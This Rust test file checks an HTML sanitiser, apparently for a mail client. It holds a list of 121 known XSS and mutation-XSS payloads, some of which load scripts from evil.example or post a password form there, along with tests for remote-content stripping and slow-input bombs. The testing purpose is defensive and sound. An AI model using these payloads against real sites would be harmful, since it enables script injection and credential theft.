//! Tests of sanitising HTML: known attacks, and invariants of the result.

use std::time::{Duration, Instant};

use super::tokens::{Token, Tokens};
use super::*;

const PNG: &str = "data:image/png;base64,iVBORw0KGgo=";

fn nothing(_: &str) -> Option<String> {
    None
}

fn clean(html: &str) -> String {
    clean_html(html, &nothing).html
}

/// Sanitises HTML without a time limit, which a slow machine could exceed.
fn clean_html(html: &str, picture: &dyn Fn(&str) -> Option<String>) -> Cleaned {
    super::clean_html(html, picture, &Budget::new(Duration::from_secs(60)))
}

/// Checks the invariants of sanitised HTML.
fn assert_harmless(html: &str, clean: &str) {
    for token in Tokens::new(clean) {
        let (name, attributes) = match token {
            Token::Text(text) => {
                assert!(!text.contains('<'), "text is escaped: {html:?} -> {clean:?}");
                continue;
            }
            Token::End(name) => (name, Vec::new()),
            Token::Start(name, attributes) => (name, attributes),
        };
        assert!(allowed::tags().any(|known| known == name), "<{name}> from {html:?} in {clean:?}");
        for (attribute, value) in attributes {
            let value = value.to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{attribute} from {html:?} in {clean:?}");
            let is_fine = match attribute.as_str() {
                "href" => ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                "src" => name == "img" && value.starts_with("data:image/") && !value.contains("svg"),
                "style" => !["http", "url", "expression", "import", "javascript", "\\", "position", "@", "/*"]
                    .iter()
                    .any(|word| value.contains(word)),
                "rel" => value == "noopener noreferrer nofollow",
                "target" => value == "_blank",
                attribute => allowed::is_allowed(&name, attribute),
            };
            assert!(is_fine, "{attribute}={value:?} from {html:?} in {clean:?}");
        }
    }
    // Parsing the result again gives the same result: no mutation XSS.
    assert_eq!(sorted(&self::clean(clean)), sorted(clean), "cleaned twice: {html:?}");
}

/// HTML with sorted attributes, since ammonia changes their order.
fn sorted(html: &str) -> String {
    let tokens = Tokens::new(html).map(|token| match token {
        Token::Start(name, mut attributes) => {
            attributes.sort();
            format!("{name} {attributes:?}\n")
        }
        other => format!("{other:?}\n"),
    });
    tokens.collect()
}

/// Attacks from the OWASP filter evasion list and the tests of DOMPurify and Roundcube, and known mutation attacks.
const ATTACKS: [&str; 121] = [
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=\"http://evil.example\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script x>alert(1)</script y>",
    "</title><script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "<script src=//evil.example/a>",
    "<script type=module>import('//evil.example')</script>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<a onclick=\"alert(1)\" href=\"https://a.example\">x</a>",
    "<div style=\"width:100%\" onpointerover=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<p title='\" onclick=\"alert(1)'>x",
    "<p title=\"a\"onclick=alert(1)>x",
    "<p/onclick=alert(1)>x",
    "<p \x0bonclick=alert(1)>x",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<x onfocus=alert(1) tabindex=1 id=x>",
    // URLs that run scripts.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"java&#0;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:image/png;base64,AAAA\">x</a>",
    "<a href=\"cid:a\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/admin/delete\">x</a>",
    "<a href=\"#x\">x</a>",
    "<a href=\"https&#58;//a.example\" target=_self rel=opener ping=https://evil.example>x</a>",
    "<a href=\"https://a.example\u{202e}moc\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,x\">",
    "<img src=\"data:image/png;base64,AA\" onload=alert(1)>",
    "<img src=\"cid:x\" onerror=alert(1)>",
    // Foreign content and mutation.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></animate></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><a><table></a><img src=x onerror=alert(1)>",
    "<table><tr><div><script>alert(1)</script><td>x",
    "<p title=\"&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><b onclick=alert(1)>x</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if !mso]><script>alert(1)</script><![endif]>",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<b <script>alert(1)</script>>x</b>",
    "<a href=\"https://a.example\" <img src=x onerror=alert(1)>x</a>",
    // Frames, forms, and elements that change the whole document.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<applet code=x><param name=a value=b></applet>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    // Styles and remote content.
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background:u\\72l(https://evil.example)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"wid/**/th:exp/**/ression(alert(1));color:red\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:&#117;rl('//evil.example')\">x</div>",
    "<div style='list-style-image:url(\"https://evil.example\");-moz-binding:url(x);behavior:url(x)'>x</div>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

#[test]
fn known_attacks_are_harmless() {
    for html in ATTACKS {
        assert_harmless(html, &clean(html));
        // The attacks are also harmless in contexts that are parsed differently.
        for (before, after) in [
            ("<table><tr>", "</table>"),
            ("<p title='x'>", "<p>"),
            ("<svg>", "</svg>"),
            ("<math><mtext>", ""),
            ("<a href='https://a.example'>", "</a>"),
            ("<select><option>", ""),
        ] {
            let html = format!("{before}{html}{after}");
            assert_harmless(&html, &clean(&html));
        }
    }
}

#[test]
fn sequences_of_attacks_are_harmless() {
    for first in ATTACKS {
        for second in ATTACKS {
            let html = format!("{first}{second}");
            let clean = clean(&html);
            assert!(!clean.contains("<script") && !clean.contains("<svg") && !clean.contains("<math"), "{html}");
        }
    }
    let all = ATTACKS.concat();
    assert_harmless(&all, &clean(&all));
}

#[test]
fn harmless_html_is_kept() {
    let link = "target=\"_blank\" rel=\"noopener noreferrer nofollow\"";
    for (html, expected) in [
        ("hej", "hej".to_owned()),
        ("<p>a<p>b", "<p>a</p><p>b</p>".to_owned()),
        ("<ul><li>a<li>b</ul>c", "<ul><li>a</li><li>b</li></ul>c".to_owned()),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c".to_owned()),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2".to_owned()),
        ("&aring;&#228;&nbsp;&lt;b&gt;", "åä&nbsp;&lt;b&gt;".to_owned()),
        (
            "<table width=100%><tr><td colspan=2 bgcolor='#fff'>a<td>b</table>",
            "<table width=\"100%\"><tbody><tr><td colspan=\"2\" bgcolor=\"#fff\">a</td><td>b</td></tr></tbody></table>"
                .to_owned(),
        ),
        (
            "<table>a<tr><b><td>b</b></table>",
            "<table><tbody><tr><td>a</td></tr><tr><td>b</td></tr></tbody></table>".to_owned(),
        ),
        ("<table><td>a", "<table><tbody><tr><td>a</td></tr></tbody></table>".to_owned()),
        ("<p style='color:red;position:fixed'>a</p>", "<p style=\"color:red\">a</p>".to_owned()),
        (
            "<a href=https://a.example/?b=1&amp;c=2>x</a>",
            format!("<a href=\"https://a.example/?b=1&amp;c=2\" {link}>x</a>"),
        ),
        ("<a href=MAILTO:a@b.se>x</a>", format!("<a href=\"MAILTO:a@b.se\" {link}>x</a>")),
        ("<html><head><title>t</title><style>p{}</style></head><body>x</body></html>", "x".to_owned()),
        ("<o:p>x</o:p><center>y</center>", "x<center>y</center>".to_owned()),
        ("a\u{202e}b&#x202e;c&shy;d", "abcd".to_owned()),
        ("<pre>\n\na</pre>", "<pre>a</pre>".to_owned()),
    ] {
        let found = clean(html);
        assert_eq!(found, expected, "{html}");
        assert_harmless(html, &found);
    }
    // ammonia removes tags that it does not know, so check that it keeps every allowed one.
    for tag in allowed::tags()
        .filter(|tag| !["col", "colgroup", "caption", "tbody", "td", "tfoot", "th", "thead", "tr"].contains(tag))
    {
        assert!(clean(&format!("<{tag}>")).contains(&format!("<{tag}")), "{tag}");
    }
}

#[test]
fn remote_content_is_removed_and_counted() {
    for (html, remote) in [
        ("<img src=https://a.example/x.png>", 1),
        ("<img src=//a.example/x.png srcset='https://a.example/y.png 2x'>", 1),
        ("<img src=x.png><table background=http://a.example/b.gif><td background='HTTP://a.example'>x</table>", 3),
        ("<div style='background:url(https://a.example)'>x<p style=\"background:URL('x')\">", 2),
        ("<video poster=https://a.example/x.png>", 1),
        ("<input type=image src=https://a.example>", 1),
        ("<img src=cid:x><img src='data:image/png;base64,AA=='><img src><script src=https://a.example></script>", 0),
    ] {
        let cleaned = clean_html(html, &nothing);
        assert_eq!(cleaned.remote, remote, "{html}");
        assert!(!cleaned.html.contains("a.example"), "{html} {}", cleaned.html);
        assert_harmless(html, &cleaned.html);
    }
}

#[test]
fn pictures_within_the_mail_are_embedded() {
    let picture = |id: &str| (id == "a@b").then(|| PNG.to_owned());
    for (html, shown) in [
        ("<img src=cid:a@b>", true),
        ("<img src=' CID:a%40b'>", true),
        ("<img src=cid:a@b onerror=x>", true),
        ("<img src=cid:other alt=x>", false),
        ("<p background=cid:a@b>", false),
        ("<a href=cid:a@b>", false),
    ] {
        let cleaned = clean_html(html, &picture);
        assert_eq!(cleaned.html.contains(PNG), shown, "{html}: {}", cleaned.html);
        assert_harmless(html, &cleaned.html);
    }
    // The HTML cannot choose the URI of a picture; nevertheless an unsafe URI is refused.
    for uri in [
        "data:image/svg+xml;base64,AA",
        "https://a.example",
        "data:image/png;base64,A\" onerror=\"x",
        "data:image/png,x",
    ] {
        assert!(!clean_html("<img src=cid:x>", &|_| Some(uri.to_owned())).html.contains("src"), "{uri}");
    }
}

#[test]
fn pictures_are_limited_in_size_and_number() {
    let megabyte = format!("data:image/png;base64,{}", "A".repeat(1 << 20));
    let cleaned = clean_html(&"<img src=cid:x>".repeat(10), &|_| Some(megabyte.clone()));
    assert_eq!(cleaned.html.matches("src=").count(), 4);
    let asked = std::cell::Cell::new(0);
    let count = |_: &str| {
        asked.set(asked.get() + 1);
        None
    };
    let many: String = (0..5000).map(|n| format!("<img src=cid:x{n}>")).collect();
    assert!(clean_html(&many, &count).is_cut);
    assert_eq!(asked.replace(0), 200);
    // A picture that is used again is not converted again.
    clean_html(&"<img src=cid:x>".repeat(5000), &count);
    assert_eq!(asked.get(), 1);
}

/// A megabyte of each piece of HTML takes a few seconds at most, and the size of the result is bounded.
#[test]
fn html_made_to_be_slow_is_cleaned_quickly() {
    let fill = |piece: &str| piece.repeat(MAX_TEXT / piece.len() + 1);
    let half = |piece: &str| piece.repeat(MAX_TEXT / 2 / piece.len());
    let numbered =
        |before: &str, after: &str| -> String { (0..40_000).map(|n| format!("{before}{n}{after}")).collect() };
    let bombs = [
        fill("<div>"),
        fill("<b>"),
        fill("<p>"),
        fill("<a href=http://a.example>"),
        fill("<table>"),
        fill("<table><tr><td>"),
        fill("<svg>"),
        fill("<"),
        fill("</p>"),
        fill("<!-- -->"),
        fill("<!-- --!>"),
        fill("<!-"),
        fill("<script>"),
        fill("<script></scriptx>"),
        fill("<img src=\""),
        fill("&"),
        fill("&#x202e;"),
        fill("<p style='color:red;"),
        format!("<p {}>", numbered("a", "=1 ")),
        format!("<p style='{}'>", fill("color:red;")),
        format!("<p style='color:{}'>", fill("rgb(")),
        numbered("<b title=", ">") + &half("<p>x"),
        numbered("<p><b title=", ">x"),
        numbered("<b title=", "><table></b>x") + &half("<p>x"),
        format!("<table><tr>{}{}", numbered("<b title=", ">"), half("<tr>x")),
        format!("<table>{}{}", numbered("<i title=", "><table>"), half("<table>x</table>")),
        fill("<p><b><font><a href=http://a.example><i>x</p>"),
        fill("<b><i></b></i><p>x"),
        fill("<img src=cid:x>"),
    ];
    for bomb in bombs {
        let started = Instant::now();
        let cleaned = clean_html(&bomb, &nothing);
        let took = started.elapsed();
        let start: String = bomb.chars().take(60).collect();
        assert!(took < Duration::from_secs(10), "{start} took {took:?}");
        assert!(cleaned.html.len() < 8 * MAX_TEXT, "{start}: {} bytes", cleaned.html.len());
    }
}

#[test]
fn the_frame_contains_only_what_its_policy_allows() {
    let cleaned = clean_html("<p style='color:red'>hej<script>x</script><img src=https://a.example>", &nothing);
    for dark in [false, true] {
        let document = frame_document(&cleaned, "sv\"><script>", dark, "");
        assert!(document.starts_with("<!DOCTYPE html>\n<html lang=\"svscript\">"), "{document}");
        assert!(document.contains("<p style=\"color:red\">hej<img></p></body>"), "{document}");
        assert!(!document.contains("<script") && !document.contains("http"), "{document}");
    }
    for rule in ["default-src 'none'", "style-src 'unsafe-inline'", "img-src data:", "sandbox allow-popups"] {
        assert!(FRAME_POLICY.contains(rule), "{rule}");
    }
    assert!(!FRAME_POLICY.contains("allow-scripts") && !FRAME_POLICY.contains("allow-same-origin"));
}
